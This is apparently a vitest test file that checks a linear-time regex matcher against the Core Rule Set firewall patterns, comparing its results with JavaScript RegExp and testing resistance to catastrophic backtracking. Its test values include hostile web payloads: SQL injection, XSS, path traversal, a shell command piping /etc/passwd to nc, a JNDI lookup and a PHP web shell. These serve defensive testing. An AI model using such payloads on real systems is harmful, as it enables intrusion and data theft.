import { describe, expect, test } from "vitest";
import { backtrackingDegree } from "./backtracking-degree.ts";
import { LinearMatcher } from "./linear-matcher.ts";
import { parsePattern } from "./parse-pattern.ts";
import { PatternRefused, type Pattern } from "./pattern-tree.ts";
import { requiredLiterals } from "./required-literals.ts";
import { hasRules, rulePatterns, rulesFolder } from "./rule-files.test-support.ts";
import { toRegExp } from "./to-javascript.ts";

if (!hasRules) console.warn(`SKIPPED: no Core Rule Set at ${rulesFolder}`);

/** Floors for release 3.3.4; later releases have more patterns. They only rise. */
const PATTERNS = 265;
const LINEAR_PATTERNS = 262;
const FILTERED_PATTERNS = 245;

/** Harmless and hostile, short enough for any engine. */
const VALUES = [
  "",
  "a",
  "GET",
  "application/json; charset=utf-8",
  "The quick brown fox jumps over the lazy dog.",
  "' or 1=1 -- ",
  "1' union select name, pass from users where 'a'='a",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "../../../../etc/passwd",
  "; cat /etc/passwd | nc 10.0.0.1 80",
  "${jndi:ldap://127.0.0.1/a}",
  "http://169.254.169.254/latest",
  "<?php system($_GET['x']); ?>",
  "a\r\nSet-Cookie: b=c",
  'O:8:"stdClass":0:{}',
  "\x00\x01\x7f\xff",
  "caf\xc3\xa9 \xe2\x82\xac \xbc\xbe",
  "multipart/form-data; boundary=----x",
  "bytes=0-1,2-3,4-5,6-7,8-9,10-11",
];

const codeOf = (make: () => unknown): string => {
  try {
    make();
    return "ok";
  } catch (error) {
    if (error instanceof PatternRefused) return error.code;
    throw error;
  }
};

describe.skipIf(!hasRules)("the patterns of the Core Rule Set", () => {
  const rows = hasRules ? rulePatterns() : [];
  const patterns: [rule: string, pattern: Pattern][] = [];
  for (const { rule, source } of rows) {
    if (codeOf(() => parsePattern(source)) === "ok") patterns.push([rule, parsePattern(source)]);
  }
  const regular = patterns.filter(
    ([, pattern]) => codeOf(() => new LinearMatcher(pattern)) === "ok",
  );

  test("can be read and translated, all of them", () => {
    expect(rows.length).toBeGreaterThanOrEqual(PATTERNS);
    expect(patterns).toHaveLength(rows.length);
    for (const [, pattern] of patterns) expect(toRegExp(pattern)).toBeInstanceOf(RegExp);
  });

  test("run on the linear matcher but for a few", () => {
    expect(regular.length).toBeGreaterThanOrEqual(LINEAR_PATTERNS);
  });

  test("mostly have literals to filter by", () => {
    const filtered = patterns.filter(([, pattern]) => requiredLiterals(pattern) !== undefined);
    expect(filtered.length).toBeGreaterThanOrEqual(FILTERED_PATTERNS);
  });

  test("say the same on both engines", () => {
    let matches = 0;
    for (const [rule, pattern] of regular) {
      const matcher = new LinearMatcher(pattern);
      const expression = toRegExp(pattern);
      for (const value of VALUES) {
        const isMatch = expression.test(value);
        if (isMatch) matches++;
        expect(matcher.test(value), `${rule} on ${value}`).toBe(isMatch);
        if (matcher.looksAhead) continue;
        expect(matcher.find(value)?.start, `${rule} in ${value}`).toBe(
          expression.exec(value)?.index,
        );
      }
    }
    expect(matches).toBeGreaterThan(100);
  });

  test("never match without one of their literals", () => {
    for (const [rule, pattern] of patterns) {
      const literals = requiredLiterals(pattern)?.literals;
      const expression = toRegExp(pattern);
      for (const value of VALUES.filter((one) => literals && expression.test(one))) {
        const lower = value.replace(/[A-Z]/g, (letter) => letter.toLowerCase());
        expect(
          literals?.some((literal) => lower.includes(literal)),
          `${rule} on ${value}`,
        ).toBe(true);
      }
    }
  });

  test("are known to be dangerous where they are", () => {
    const degrees = new Map(patterns.map(([rule, pattern]) => [rule, backtrackingDegree(pattern)]));
    // Measured on the backtracking engine: cubic, 27 seconds for 4,000 newlines.
    expect(degrees.get("921160")).toBeGreaterThanOrEqual(3);
  });

  test("read 4,000 newlines once each, the cubic ones included", () => {
    for (const [rule, pattern] of regular) {
      const matcher = new LinearMatcher(pattern);
      matcher.test("\n".repeat(4_000));
      expect(matcher.cost.bytesRead, rule).toBeLessThanOrEqual(4_000);
      expect(matcher.cost.visits, rule).toBeLessThan(100 * (matcher.size + 10));
    }
  });
});
